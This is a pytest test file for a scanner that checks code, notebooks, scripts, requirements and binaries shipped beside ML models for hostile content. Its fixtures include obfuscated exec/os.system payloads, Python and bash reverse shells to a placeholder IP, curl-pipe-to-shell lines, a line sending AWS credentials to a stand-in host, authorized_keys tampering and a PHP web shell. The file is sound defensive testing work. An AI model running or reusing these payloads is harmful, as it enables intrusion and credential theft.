"""Code, programs and credentials beside a model: read, never compiled, imported or started."""

from __future__ import annotations

import base64
import codecs
import json
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from modelguard_serialization._code.rules import RULES
from modelguard_serialization.testing import look_through

from modelguard import Finding, Severity

MARKER = "touch modelguard-was-here"
PAYLOAD = f"import os; os.system('{MARKER}')"
ENCODED = base64.b64encode(PAYLOAD.encode()).decode()
NUMBERS = ", ".join(str(ord(sign)) for sign in PAYLOAD)


def severity(finding: Finding) -> Severity:
    return finding.severity if finding.severity is not None else next(rule.severity for rule in RULES if rule.id == finding.rule)


def worst(name: str, data: str | bytes, beside: dict[str, bytes] | None = None) -> tuple[str, Severity]:
    """Rule and severity of the worst finding."""
    look, by = look_through(name, data.encode() if isinstance(data, str) else data, beside)
    assert by, f"nothing recognised {name}"
    found = [finding for finding in look.findings if finding.rule.startswith("MG035")]
    if not found:
        return "", Severity.INFO
    finding = max(found, key=severity)
    return finding.rule, severity(finding)


# https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/ and the code that
# trust_remote_code imports: https://huggingface.co/docs/transformers/custom_models
@pytest.mark.parametrize(
    "code",
    [
        PAYLOAD,
        "import os as o\no.system('x')",
        "from os import system as s\ns('x')",
        "from os import *\nsystem('x')",
        "x = __import__('os')\nx.popen('id')",
        "getattr(__import__('os'), 'sys' + 'tem')('id')",
        "import builtins\ngetattr(builtins, 'ex' + 'ec')(open('x').read())",
        f"exec({PAYLOAD!r})",
        f"import base64\nexec(base64.b64decode('{ENCODED}'))",
        f"exec(''.join(chr(i) for i in [{NUMBERS}]))",
        f"exec(''.join(map(chr, [{NUMBERS}])))",
        f"exec(bytes.fromhex('{PAYLOAD.encode().hex()}'))",
        f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))",
        "__builtins__.__dict__['ev' + 'al'](x)",
        "().__class__.__base__.__subclasses__()[1]",
        "import sys\nsys.modules['os'].system('id')",
        "import threading, os\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\n(lambda f: f('id'))(os.system)",
        "(lambda m: m.system('id'))(__import__('os'))",
        "(lambda: __import__('os'))().system('id')",
        "for m in [__import__('os')]:\n    m.system('id')",
        "[m.system('id') for m in (__import__('os'),)]",
        "with __import__('os') as m:\n    m.system('id')",
        "def f(m=__import__('os')):\n    m.system('id')\nf()",
        "def f(m):\n    m.system('id')\nf(__import__('os'))",
        "class A:\n    m = __import__('os')\nA.m.system('id')",
        "def f():\n    return __import__('os')\nf().system('id')",
        "import os\n[os][0].system('id')",
        "import os\n{'a': os}['a'].system('id')",
        "import os\nx = {'a': os.system}\nx['a']('id')",
        "import os\n(os if 1 else 0).system('id')",
        "import os\n(0 or os).system('id')",
        "import os\n(m := os).system('id')",
        "import os\n(a, (b, c)) = (1, (2, os))\nc.system('id')",
        "@__import__('os').system\ndef f(): pass",
        "def f(x=__import__('os').system('id')): pass",
        "def f(x: __import__('os').system('id')): pass",
        "class A:\n    x = __import__('subprocess').check_output('id')",
        "import os\ndef f():\n    os.system('id')\nf()",
        "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()",
        "import urllib.request as u\nexec(u.urlopen('https://x.invalid').read())",
        "import marshal\nexec(marshal.loads(x))",
        "import os\nf = getattr(os, input())\nf('id')",
        "from subprocess import Popen\nPopen(['pip', 'install', 'x'])",
        "import pip\npip.main(['install', 'x'])",
        "import runpy\nrunpy.run_path('/tmp/x')",
        "from transformers import PreTrainedModel\nclass X(PreTrainedModel):\n    def __init__(self, c):\n        import os\n        "
        "os.system('id')",
        "import torch.nn as nn\nclass X(nn.Module):\n    def forward(self, c):\n        self.h()\n    def h(self):\n"
        "        import subprocess as sp\n        sp.run('id', shell=True)",
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('192.0.2.1', 4))\nos.dup2(s.fileno(), "
        "0)\nsubprocess.call(['/bin/sh', '-i'])",
        "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('k')",
        "import os, requests\ndef f():\n    requests.post('https://x.invalid', data=open(os.path.expanduser('~/.aws/credentials')).read())",
        "import os\ndef f():\n    os.system('curl http://192.0.2.1/x | sh')",
        "# -*- coding: utf-7 -*-\nx = 1",
        "globals()['__builtins__']['ev' + 'al'](x)",
        "__builtins__['ex' + 'ec'](x)",
        "vars(__builtins__)['eval'](x)",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "from ctypes import cdll\ncdll.LoadLibrary('libc.so.6').execve(b'/bin/sh', None, None)",
        "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.popen(b'id', b'r')",
        "import ctypes\nctypes.cdll['msvcrt'].system(b'id')",
        "import ctypes\nctypes.windll.shell32.ShellExecuteW(0, 0, 'cmd', 0, 0, 0)",
    ],
)
def test_python_that_does_what_a_model_does_not_is_high(code: str) -> None:
    rule, found = worst("modeling_x.py", code)
    assert rule == "MG0350"
    assert found >= Severity.HIGH


def test_the_commands_of_a_package_run_when_it_is_installed() -> None:
    command = "class I(install):\n    def run(self):\n        os.system('id')\n"
    code = f"import os\nfrom setuptools import setup\n{command}setup(cmdclass={{'install': I}})"
    assert worst("setup.py", code) == ("MG0350", Severity.HIGH)
    assert worst("tools.py", code) == ("MG0350", Severity.LOW)


@pytest.mark.parametrize(
    "code",
    [
        "import math\nimport torch\nfrom transformers import PreTrainedModel\nclass X(PreTrainedModel):\n    def forward(self, x):\n     "
        "   return x.eval()",
        "import torch\nmodel.eval()\ntorch.compile(model)\nre.compile('x')",
        "import torch\nm = torch.load('x.pt', weights_only=True)",
        "import os\nif __name__ == '__main__':\n    os.system('ls')",
        "import os\ndef main():\n    os.system('ls')",
        "import requests\nclass P(Processor):\n    def load(self, url):\n        return requests.get(url)",
        "import subprocess\nclass M(nn.Module):\n    def load(self, path):\n        return subprocess.run(['ffmpeg', '-i', path])",
        "from PIL import Image\nimport requests\nimage = Image.open(requests.get('https://example.com/cat.jpg', stream=True).raw)",
        "exec(open('version.py').read())",
        "eval('1 + 1')",
        "import os\nprint(os.environ['HOME'])",
        "import os, platform\nprint(platform.system(), host.system())",
        "import os\nACTIVATIONS = {'relu': F.relu, 'gelu': F.gelu}\ndef f(name, x):\n    return ACTIVATIONS[name](x)",
        "import subprocess\ndef f(kind, run=subprocess.run):\n    return {'a': run, 'b': subprocess.check_output}[kind](['ls'])",
        "import ctypes, torch\ndef kernel():\n    return ctypes.CDLL('x')",
        "def __getattr__(name):\n    import importlib\n    return importlib.import_module('.' + name, __name__)",
        "import ctypes\nlib = ctypes.CDLL('kernels.so')\nlib.forward.restype = None\ndef f(x):\n    return getattr(lib, 'f' + x)(1)",
    ],
)
def test_honest_python_is_low(code: str) -> None:
    rule, found = worst("script.py", code)
    assert (rule, found) == ("MG0350", Severity.LOW)


def test_code_that_is_imported_may_not_use_the_network_on_import() -> None:
    code = "import requests\nrequests.get('https://x.invalid')"
    assert worst("helper.py", code)[1] == Severity.LOW
    assert worst("helper.py", code, {"modeling_x.py": b"from .helper import f\n"})[1] == Severity.HIGH
    assert worst("helper.py", code, {"config.json": b'{"auto_map": {"AutoModel": "helper.Model"}}'})[1] == Severity.HIGH


@pytest.mark.parametrize(
    "code",
    [
        b"x = 1\0",
        b"print 'x'",
        b"(" * 300,
        b"-" * 50000 + b"1",
        b"a" + b".b" * 50000,
        b"not " * 50000 + b"1",
        b"\xff\xfe\0",
        b"# coding: nonsense\n",
    ],
    ids=["nul", "python2", "brackets", "minus", "attributes", "not", "bytes", "encoding"],
)
def test_python_that_cannot_be_parsed_is_not_looked_at(code: bytes) -> None:
    look, by = look_through("a.py", code)
    assert by
    assert look.missed
    assert {finding.rule for finding in look.findings} == {"MG0350"}


def test_source_past_the_limit_is_not_looked_at(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("modelguard_serialization.limits.CODE", 100)
    assert look_through("a.py", b"#" * 101)[0].missed
    assert not look_through("a.py", b"#" * 100)[0].missed


# https://docs.python.org/3/library/site.html: lines of a .pth file that begin with "import" are run
def test_code_is_known_without_the_ending_of_python() -> None:
    assert worst("x.pth", f"/some/path\n{PAYLOAD}\n") == ("MG0350", Severity.HIGH)
    assert worst("run", f"#!/usr/bin/env python3\n{PAYLOAD}\n") == ("MG0350", Severity.HIGH)


def notebook(*cells: str, output: dict[str, str] | None = None) -> str:
    outputs = [{"output_type": "display_data", "data": output}] if output else []
    return json.dumps({"nbformat": 4, "cells": [{"cell_type": "code", "source": cell, "outputs": outputs} for cell in cells]})


@pytest.mark.parametrize(
    ("text", "least", "most"),
    [
        (notebook("!pip install torch\nimport torch\n%matplotlib inline"), Severity.LOW, Severity.LOW),
        (notebook("import os\nos.system('ls')"), Severity.LOW, Severity.LOW),
        (notebook("x = !ls", output={"text/html": "<script>1</script>"}), Severity.LOW, Severity.LOW),
        (notebook("!curl http://192.0.2.1/x | sh"), Severity.HIGH, Severity.CRITICAL),
        (notebook("%%bash\nbash -i >& /dev/tcp/192.0.2.1/99 0>&1"), Severity.HIGH, Severity.CRITICAL),
        (notebook(f"import base64\nexec(base64.b64decode('{ENCODED}'))"), Severity.HIGH, Severity.CRITICAL),
    ],
)
def test_notebooks(text: str, least: Severity, most: Severity) -> None:
    rule, found = worst("a.ipynb", text)
    assert rule == "MG0355"
    assert least <= found <= most


@pytest.mark.parametrize(
    ("name", "text", "rule", "expected"),
    [
        ("a.sh", "echo hi\nrm -rf ./build /tmp/x", "MG0350", Severity.LOW),
        ("Makefile", "all:\n\trm -rf build\n", "MG0350", Severity.LOW),
        ("Dockerfile", "RUN curl -L https://x.invalid/a.tgz | tar xz\n", "MG0350", Severity.LOW),
        ("a.sh", "curl -sSf https://x.invalid | sh", "MG0353", Severity.MEDIUM),
        ("a.sh", "curl http://x.invalid/z | sudo bash", "MG0353", Severity.HIGH),
        ("run", "#!/bin/sh\nb''a''sh -i >& /dev/tcp/192.0.2.1/9 0>&1", "MG0350", Severity.CRITICAL),
        ("a.sh", "echo aGk= | base64 -d | sh", "MG0350", Severity.HIGH),
        ("a.sh", "rm -rf ~/", "MG0350", Severity.HIGH),
        ("a.sh", "echo k >> ~/.ssh/authorized_keys", "MG0350", Severity.HIGH),
        ("a.ps1", "IEX (New-Object Net.WebClient).DownloadString('http://x.invalid')", "MG0350", Severity.HIGH),
        ("a.bat", "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A", "MG0350", Severity.HIGH),
        ("Dockerfile", "RUN pip install -i http://192.0.2.1/simple foo", "MG0353", Severity.HIGH),
        ("x.desktop", "[Desktop Entry]\nExec=sh -c id\n", "MG0350", Severity.MEDIUM),
        ("x.url", "[InternetShortcut]\nURL=https://x.invalid\n", "MG0350", Severity.MEDIUM),
        (".vscode/tasks.json", '{"tasks": [{"command": "curl http://x.invalid/z | sh"}]}', "MG0353", Severity.HIGH),
        (".devcontainer/devcontainer.json", '{"postCreateCommand": "make"}', "MG0350", Severity.LOW),
        (".circleci/config.yml", "jobs: {a: {steps: [run: 'echo aGk= | base64 -d | sh']}}", "MG0350", Severity.HIGH),
        ("tox.ini", "[testenv]\ncommands = pytest\n", "MG0350", Severity.LOW),
    ],
)
def test_scripts(name: str, text: str, rule: str, expected: Severity) -> None:
    assert worst(name, text) == (rule, expected)


def test_a_shortcut_of_windows_is_found_by_its_header() -> None:
    link = b"\x4c\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + "cmd.exe /c powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A".encode(
        "utf-16-le"
    )
    assert worst("README", link) == ("MG0350", Severity.HIGH)


def test_code_in_other_languages_is_not_looked_at() -> None:
    for name, text, expected in [
        ("a.js", "console.log(1)", Severity.LOW),
        ("kernel.cu", "__global__ void f() {}", Severity.LOW),
        ("a.php", "<?php system($_GET['x']); ?>", Severity.HIGH),
        ("a.js", "eval(atob('eA=='))", Severity.HIGH),
        ("a.vbs", "x = 1", Severity.MEDIUM),
    ]:
        assert worst(name, text) == ("MG0350", expected)
        assert look_through(name, text.encode())[0].missed


# https://medium.com/@alex.birsan/dependency-confusion-4a5d60fec610
@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        ("requirements.txt", "torch==2.1\ntransformers>=4  # see https://example.com\n# https://example.com\n", Severity.INFO),
        ("requirements.txt", "--extra-index-url https://download.pytorch.org/whl/cu118\ntorch", Severity.LOW),
        ("requirements.txt", "git+https://github.com/huggingface/transformers", Severity.LOW),
        ("requirements.txt", f"git+https://github.com/somebody/x@{'a' * 40}", Severity.LOW),
        ("requirements.txt", "git+https://github.com/somebody/x", Severity.MEDIUM),
        ("requirements-dev.txt", "--extra-index-url https://x.invalid/simple\ntorch", Severity.MEDIUM),
        ("requirements.txt", "foo @ https://x.invalid/foo.whl", Severity.MEDIUM),
        ("requirements.txt", "-i http://x.invalid/simple", Severity.HIGH),
        ("requirements.txt", "--find-links http://192.0.2.1/", Severity.HIGH),
        ("requirements.txt", "--trusted-host x.invalid", Severity.HIGH),
        ("environment.yml", "dependencies:\n - pip:\n   - --index-url https://x.invalid\n", Severity.MEDIUM),
        ("pyproject.toml", "[project]\ndependencies = ['torch']\n[project.urls]\na = 'https://x.invalid'\n", Severity.INFO),
        ("pyproject.toml", "[project]\ndependencies = ['x @ git+https://github.com/somebody/x']", Severity.MEDIUM),
        ("package.json", json.dumps({"scripts": {"test": "jest"}}), Severity.INFO),
        ("package.json", json.dumps({"scripts": {"postinstall": "node x.js"}}), Severity.MEDIUM),
        ("package.json", json.dumps({"scripts": {"postinstall": "curl http://x.invalid | sh"}}), Severity.HIGH),
    ],
)
def test_requirements(name: str, text: str, expected: Severity) -> None:
    assert worst(name, text) == ("MG0353" if expected > Severity.INFO else "", expected)


ELF = b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(28) + struct.pack("<H", 64) + bytes(100)
PE = (
    b"MZ"
    + bytes(58)
    + struct.pack("<I", 128)
    + bytes(64)
    + b"PE\0\0"
    + struct.pack("<HH", 0x8664, 3)
    + bytes(12)
    + struct.pack("<HHH", 240, 0, 0x20B)
    + bytes(50)
)
MACH = b"\xcf\xfa\xed\xfe" + struct.pack("<5I", 0x01000007, 3, 2, 16, 1024) + bytes(64)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("lib", ELF),
        ("weights.bin", PE),
        ("x", MACH),
        ("m", b"\0asm\1\0\0\0"),
        ("A", b"\xca\xfe\xba\xbe\0\0\0\x37"),
        ("c", b"\xa7\x0d\r\n" + bytes(12) + b"\xe3" + bytes(30)),
        ("k.so.1", ELF),
    ],
)
def test_programs_are_found_by_their_headers(name: str, data: bytes) -> None:
    assert worst(name, data) == ("MG0351", Severity.HIGH)
    assert look_through(name, data)[0].missed


@pytest.mark.parametrize("data", [ELF, PE, MACH])
@pytest.mark.parametrize(
    ("name", "before"), [("logo.png", b"\x89PNG\r\n\x1a\n" + bytes(40)), ("x.json", b'{"a": "'), ("data.dat", bytes(64))]
)
def test_programs_are_found_inside_data(name: str, before: bytes, data: bytes) -> None:
    look, _ = look_through(name, before + data)
    assert [finding.rule for finding in look.findings if severity(finding) >= Severity.HIGH] == ["MG0354"]
    assert look.missed


def test_a_magic_alone_is_no_program() -> None:
    for data in (
        b"\x7fELF" + bytes(range(200)),
        b"MZ" + bytes(200),
        b"PE\0\0" + bytes(100),
        b"text about \x7fELF\1\1\1 headers" + bytes(64),
    ):
        assert not look_through("data.dat", data)[0].findings
        assert not look_through("data.dat", bytes(16) + data)[0].findings


DIGITS = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


def token(prefix: str, body: str) -> str:
    """A token with the checksum GitHub's have. https://github.blog/engineering/behind-githubs-new-authentication-token-formats/"""
    number, digits = zlib.crc32(body.encode()), ""
    while number:
        number, digit = divmod(number, 62)
        digits = DIGITS[digit] + digits
    return prefix + body + digits.rjust(6, "0")


KEY = "-----BEGIN PRIVATE KEY-----\n" + base64.b64encode(zlib.compress(bytes(range(256)) * 2)).decode() * 2 + "\n-----END PRIVATE KEY-----"
SECRETS = [
    "AKIA" + "Q3ZVR7TLW2XHN5BD",
    "hf_" + "QwErTyUiOpAsDfGhJkLzXcVbNmqPwOeIrU",
    token("ghp_", "a8Fh29dkLmQ3zXcVbN7uYtReWqP0oI"),
    "xoxb-" + "482915370264-739182640518-a8Fh29dkLmQ3zXcVbN7uYtRe",
    "glpat-" + "a8Fh29dkLmQ3zXcVbN7u",
]


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(("name", "form"), [(".env", "KEY={}\n"), ("config.json", '{{"key": "{}"}}'), ("train.py", "key = '{}'\n")])
def test_credentials_are_found_and_not_shown(secret: str, name: str, form: str) -> None:
    look, _ = look_through(name, form.format(secret).encode())
    found = [finding for finding in look.findings if finding.rule == "MG0352"]
    assert len(found) == 1
    assert all(secret not in text for text in (found[0].message, found[0].key, str(found[0].evidence)))


def test_private_keys_are_found_and_not_shown() -> None:
    look, _ = look_through("id", KEY.encode())
    assert [finding.rule for finding in look.findings] == ["MG0352"]
    assert KEY.splitlines()[1][:20] not in look.findings[0].message


@pytest.mark.parametrize(
    "text",
    [
        "AKIA" + "IOSFODNN7EXAMPLE",
        "hf_" + "x" * 34,
        "ghp_" + "a8Fh29dkLmQ3zXcVbN7uYtReWqP0oI123abc",
        "put it between -----BEGIN PRIVATE KEY----- and -----END PRIVATE KEY-----",
        '{"vocab": {"hf_": 1, "sk-ant-": 2, "AKIA": 3}}',
        "AKIA" + "AAAAAAAAAAAAAAAA",
    ],
)
def test_examples_and_words_are_no_credentials(text: str) -> None:
    assert not look_through("notes.txt", text.encode())[0].findings


NAMES = [
    "a.py",
    "a.ipynb",
    "a.sh",
    "requirements.txt",
    "package.json",
    "a.js",
    "a.lnk",
    "a.so",
    "x",
    "m.onnx",
    "a.yaml",
    "a.pth",
    "config.json",
]


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(NAMES), st.binary(max_size=300) | st.text(max_size=200).map(lambda text: text.encode("utf-8", "replace")))
def test_any_bytes_are_read_or_not_looked_at(name: str, data: bytes) -> None:
    look, _ = look_through(name, data)
    assert not [miss for miss in look.missed if "failed (" in miss]


PIECES = [
    "import os",
    "x=",
    "getattr(",
    ")",
    "(",
    "'a'",
    "+",
    "exec",
    "eval(",
    "chr(",
    "1",
    "*",
    "\n",
    "lambda:",
    "[",
    "]",
    ".join",
    "f'{x}'",
    "for x in",
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map(" ".join))
def test_any_python_is_read_or_not_looked_at(text: str) -> None:
    look, _ = look_through("a.py", text.encode())
    assert not [miss for miss in look.missed if "failed (" in miss]


def test_constants_of_code_do_not_grow() -> None:
    doubling = (
        "a0 = 'x' * 100\n"
        + "".join(f"a{n + 1} = a{n} + a{n}\n" for n in range(60))
        + "exec(a60)\nexec('y' * 10 ** 9)\nexec('%99999999d' % 1)\n"
    )
    look, _ = look_through("a.py", doubling.encode())
    assert not look.missed
